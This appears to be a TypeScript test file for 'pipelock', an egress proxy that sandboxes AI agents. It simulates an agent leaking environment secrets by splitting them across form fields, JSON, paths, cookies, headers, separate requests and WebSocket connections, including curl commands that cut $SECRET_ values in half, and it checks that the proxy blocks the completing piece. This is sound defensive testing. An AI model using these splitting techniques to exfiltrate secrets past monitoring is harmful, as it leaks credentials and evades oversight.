// Sandbox escape, by cutting a secret so that no one place holds it: the agent holds secrets
// (forwarded env values pipelock knows) and sends one in pieces, within one request (two form
// fields, two JSON members, two path segments, two query parameters, two cookies, a header and
// the body, three pieces in any order, every other character) and across requests (halves in
// two requests, every other character in each of two, over two WebSocket connections, an
// HTTP request then a WebSocket message). The receiver joins them; pipelock must refuse the
// request that would complete the secret, so that what the recording stand-in received,
// all of it together, never holds the whole secret. Halves of text that is no secret pass.
import { randomBytes } from "node:crypto";
import { beforeAll, expect, it } from "vitest";
import type { RunningBottle } from "../support/docker/bottle-harness.js";
import { describeWithEngine } from "../support/docker/engine.js";
import {
  CLEAN_MESSAGE,
  curlThrough,
  notRefused,
  pipelockWebSocket,
} from "../support/docker/escape-bottle.js";
import { probe, webSocketFrame } from "../support/docker/escape-probe.js";
import { escapeSuite } from "../support/docker/escape-suite.js";
import { everythingReceived, type RecordingUpstream } from "../support/standins/escape-standins.js";

const ALLOWED = "allowed.example.test";
/** A secret of this run: letters and digits only, so it can go in URLs and JSON as it is. */
const made = (tag: string) =>
  `Cb${tag}${randomBytes(9).toString("hex").toUpperCase()}x${randomBytes(9).toString("hex")}`;
/** One secret for every cut within a request; one for each cut across requests. */
const WITHIN = made("In");
const TWO_REQUESTS = made("Tw");
const INTERLEAVED = made("Il");
const TWO_SOCKETS = made("Ws");
const HTTP_THEN_SOCKET = made("Hs");
const IN_LARGE_BODY = made("Lb");
const SECRETS = {
  WITHIN,
  TWO_REQUESTS,
  INTERLEAVED,
  TWO_SOCKETS,
  HTTP_THEN_SOCKET,
  IN_LARGE_BODY,
};
const CLEAN = `NotASecret${"0123456789ABCDEF".repeat(2)}abcdef012345`;

const half = (s: string) => Math.floor(s.length / 2);
const first = (s: string) => s.slice(0, half(s));
const last = (s: string) => s.slice(half(s));
const every = (s: string, step: number, phase: number) =>
  [...s].filter((_, i) => i % step === phase).join("");

/**
 * Whether `received` holds enough of `secret` to rebuild it: every one of its characters lies
 * in a run of at least 6 characters of the secret (or of every 2nd or 3rd of its characters)
 * found in the text, in any case. Stricter than the engine's own 8, and written apart from it.
 */
function rebuildable(received: string, secret: string): boolean {
  const text = received.toLowerCase();
  const s = secret.toLowerCase();
  const covered = new Array<boolean>(s.length).fill(false);
  const forms: { chars: string; at: (i: number) => number }[] = [{ chars: s, at: (i) => i }];
  for (const step of [2, 3]) {
    for (let phase = 0; phase < step; phase++) {
      forms.push({ chars: every(s, step, phase), at: (i) => phase + step * i });
    }
  }
  for (const { chars, at } of forms) {
    for (let i = 0; i + 6 <= chars.length; i++) {
      if (!text.includes(chars.slice(i, i + 6))) continue;
      for (let k = i; k < i + 6; k++) covered[at(k)] = true;
    }
  }
  return covered.every(Boolean);
}

describeWithEngine("escape: cutting a secret so that no one place holds it", () => {
  const suite = escapeSuite();
  let bottle: RunningBottle;
  let upstream: RecordingUpstream;

  const received = async () =>
    everythingReceived(await upstream.requests(), await upstream.frames());
  const rebuilt = async () => {
    const all = await received();
    return Object.entries(SECRETS)
      .filter(([, secret]) => rebuildable(all, secret))
      .map(([name]) => name);
  };
  const socket = (target: string, messages: string[]) =>
    pipelockWebSocket(
      bottle,
      ALLOWED,
      target,
      messages.map((m) => webSocketFrame(1, m)),
    );

  beforeAll(async () => {
    const names = Object.keys(SECRETS);
    bottle = await suite.startBottle("joins", {
      bottle: `
env:
${names.map((n) => `  SECRET_${n}: {from_env: CB_JOIN_${n}}`).join("\n")}
egress:
  allow: [${ALLOWED}]
supervise: false
`,
      env: Object.fromEntries(Object.entries(SECRETS).map(([n, v]) => [`CB_JOIN_${n}`, v])),
    });
    upstream = await suite.startUpstream(bottle, [ALLOWED]);
  });

  it("holds the secrets, and sends two requests with halves of text that is no secret (the control)", async () => {
    for (const [name, secret] of Object.entries(SECRETS)) {
      expect((await bottle.exec(`printf %s "$SECRET_${name}"`)).stdout).toBe(secret);
    }
    const base = `https://${ALLOWED}/control`;
    const a = await curlThrough(bottle, `${base}/a`, { args: `--data-binary 'n=${first(CLEAN)}'` });
    const b = await curlThrough(bottle, `${base}/b?q=${last(CLEAN)}`);
    const fields = await curlThrough(bottle, `${base}/fields`, {
      args: `--data 'a=${first(CLEAN)}&b=${last(CLEAN)}'`,
    });
    expect([a.http, b.http, fields.http]).toEqual([200, 200, 200]);
    const controls = (await upstream.requests()).filter((r) => r.url.startsWith("/control/"));
    expect(controls).toHaveLength(3);
    expect((await received()).includes(`${first(CLEAN)}&b=${last(CLEAN)}`)).toBe(true);
  });

  it("refuses a secret cut between two places of one request, in any order", async () => {
    // Threat: no one place holds the secret; the receiver joins the fields it reads.
    const base = `https://${ALLOWED}/within`;
    const A = first(WITHIN);
    const B = last(WITHIN);
    const json = (value: unknown) =>
      `-H 'Content-Type: application/json' --data-binary '${JSON.stringify(value)}'`;
    const thirds = [WITHIN.slice(0, 12), WITHIN.slice(12, 24), WITHIN.slice(24)];
    const passed = await notRefused(bottle, [
      { name: "two form fields", url: `${base}/form`, args: `--data 'a=${A}&b=${B}'` },
      {
        name: "two form fields, reversed",
        url: `${base}/form-rev`,
        args: `--data 'b=${B}&a=${A}'`,
      },
      {
        name: "two form fields, apart",
        url: `${base}/form-apart`,
        args: `--data 'a=${A}&x=1&b=${B}'`,
      },
      { name: "two JSON members", url: `${base}/json`, args: json({ a: A, b: B }) },
      { name: "two JSON members, reversed", url: `${base}/json-rev`, args: json({ b: B, a: A }) },
      {
        name: "two JSON members, nested",
        url: `${base}/json-deep`,
        args: json({ a: [A], z: { b: B } }),
      },
      { name: "two path segments", url: `${base}/${A}/${B}` },
      { name: "two path segments, apart", url: `${base}/${A}/x/${B}` },
      { name: "two query parameters", url: `${base}/query?a=${A}&b=${B}` },
      { name: "two query parameters, reversed", url: `${base}/query-rev?b=${B}&a=${A}` },
      { name: "two cookies", url: `${base}/cookies`, args: `-H 'Cookie: a=${A}; b=${B}'` },
      {
        name: "a header and the body",
        url: `${base}/header-body`,
        args: `-H 'X-Note: ${A}' --data-binary '${B}'`,
      },
      {
        name: "the body and a header",
        url: `${base}/body-header`,
        args: `-H 'X-Note: ${B}' --data-binary '${A}'`,
      },
      { name: "a path segment and a cookie", url: `${base}/${A}`, args: `-H 'Cookie: s=${B}'` },
      {
        name: "a query parameter and a JSON member",
        url: `${base}/q-json?a=${A}`,
        args: json({ b: B }),
      },
      {
        name: "three form fields",
        url: `${base}/thirds`,
        args: `--data 'a=${thirds[0]}&b=${thirds[1]}&c=${thirds[2]}'`,
      },
      {
        name: "three form fields, out of order",
        url: `${base}/thirds-shuffled`,
        args: `--data 'c=${thirds[2]}&a=${thirds[0]}&b=${thirds[1]}'`,
      },
      {
        name: "every other character in two fields",
        url: `${base}/interleaved`,
        args: `--data 'e=${every(WITHIN, 2, 0)}&o=${every(WITHIN, 2, 1)}'`,
      },
      {
        name: "halves from the agent's own env, in two headers of a request with a body",
        url: `${base}/env`,
        args: `-H "X-A: $(printf %s "$SECRET_WITHIN" | cut -c1-${half(WITHIN)})" --data-binary "b=$(printf %s "$SECRET_WITHIN" | cut -c${half(WITHIN) + 1}-)"`,
      },
    ]);
    expect(passed).toEqual([]);
    expect((await upstream.requests()).filter((r) => r.url.startsWith("/within"))).toEqual([]);
    expect(await rebuilt()).toEqual([]);
  });

  it("refuses the request that sends a secret's last piece, halves or interleaved", async () => {
    // Threat: each request alone is clean; the receiver joins what it got over time.
    const base = `https://${ALLOWED}/across`;
    const one = await curlThrough(bottle, `${base}/one`, {
      args: `--data-binary 'note=${first(TWO_REQUESTS)}'`,
    });
    const other = await curlThrough(bottle, `${base}/unrelated`, { args: "--data-binary 'x=1'" });
    const two = await curlThrough(bottle, `${base}/two?q=${last(TWO_REQUESTS)}`);
    const even = await curlThrough(bottle, `${base}/even`, {
      args: `-H 'X-Even: ${every(INTERLEAVED, 2, 0)}'`,
    });
    const odd = await curlThrough(bottle, `${base}/odd`, {
      args: `--data-binary '${every(INTERLEAVED, 2, 1)}'`,
    });
    expect([one.http, other.http, two.http, even.http, odd.http]).toEqual([
      200, 200, 403, 200, 403,
    ]);
    expect(two.body).toContain("cut over requests");
    const all = await received();
    // The first piece of each went out (the test is real); the last never did.
    expect(all.includes(first(TWO_REQUESTS))).toBe(true);
    expect(all.includes(every(INTERLEAVED, 2, 0))).toBe(true);
    expect(all.includes(last(TWO_REQUESTS))).toBe(false);
    expect(all.includes(every(INTERLEAVED, 2, 1))).toBe(false);
    expect(await rebuilt()).toEqual([]);
  });

  it("joins a piece in the middle of a body large enough to be scanned in a worker thread", async () => {
    // Threat: the scan of a large body runs apart from the proxy's thread; its pieces count.
    const filler = (c: string) => `head -c 108000 /dev/zero | tr '\\0' ${c}`;
    const written = await bottle.exec(
      `{ ${filler("x")}; printf '%s ' '${first(IN_LARGE_BODY)}'; ${filler("y")}; } >/tmp/large-body`,
    );
    expect(written.code).toBe(0);
    const size = 2 * 108_000 + first(IN_LARGE_BODY).length + 1;
    const base = `https://${ALLOWED}/large`;
    const one = await curlThrough(bottle, `${base}/one`, {
      args: "-H 'Content-Type: text/plain' --data-binary @/tmp/large-body",
    });
    const two = await curlThrough(bottle, `${base}/two`, {
      args: `-H 'X-Rest: ${last(IN_LARGE_BODY)}'`,
    });
    expect([one.http, two.http]).toEqual([200, 403]);
    const bodies = (await upstream.requests()).filter((r) => r.url.startsWith("/large"));
    expect(bodies.map((r) => [r.url, r.bodyLength])).toEqual([["/large/one", size]]);
    expect(await rebuilt()).toEqual([]);
  });

  it("refuses a secret's last piece over a second WebSocket connection, or after an HTTP request", async () => {
    // Threat: each connection alone is clean; the server joins what both sent.
    const [opened] = await probe(bottle.agentContainer, [
      socket("/ws-one", [`first ${first(TWO_SOCKETS)}`]),
    ]);
    const [closing] = await probe(bottle.agentContainer, [
      socket("/ws-two", [`second ${last(TWO_SOCKETS)}`]),
    ]);
    const http = await curlThrough(bottle, `https://${ALLOWED}/across/before-socket`, {
      args: `--data-binary 'n=${first(HTTP_THEN_SOCKET)}'`,
    });
    const [after] = await probe(bottle.agentContainer, [
      socket("/ws-after-http", [last(HTTP_THEN_SOCKET)]),
    ]);
    expect([opened?.status, closing?.status, http.http, after?.status]).toEqual([
      101, 101, 200, 101,
    ]);
    expect(opened?.response).not.toContain("pipelock: blocked");
    expect(closing?.response).toContain("pipelock: blocked");
    expect(after?.response).toContain("pipelock: blocked");
    const payloads = (await upstream.frames()).map((f) =>
      Buffer.from(f.payload, "base64").toString("latin1"),
    );
    expect(payloads.filter((p) => p.includes(CLEAN_MESSAGE))).toHaveLength(3);
    expect(payloads.some((p) => p.includes(first(TWO_SOCKETS)))).toBe(true);
    expect(payloads.filter((p) => p.includes(last(TWO_SOCKETS)))).toEqual([]);
    expect(payloads.filter((p) => p.includes(last(HTTP_THEN_SOCKET)))).toEqual([]);
    expect(await rebuilt()).toEqual([]);
  });

  it("the stand-in can rebuild none of the secrets, and the audit log holds none of them", async () => {
    expect(await rebuilt()).toEqual([]);
    const audit = await bottle.pipelockAudit();
    const blocks = audit.filter((e) => e.decision === "dlp_block");
    expect(blocks.length).toBeGreaterThanOrEqual(19 + 2);
    expect(blocks.some((e) => e.location === "requests")).toBe(true);
    const text = JSON.stringify(audit);
    for (const secret of Object.values(SECRETS)) {
      expect(text.includes(first(secret)) && text.includes(last(secret))).toBe(false);
      expect(text.includes(last(secret))).toBe(false);
    }
  });
});
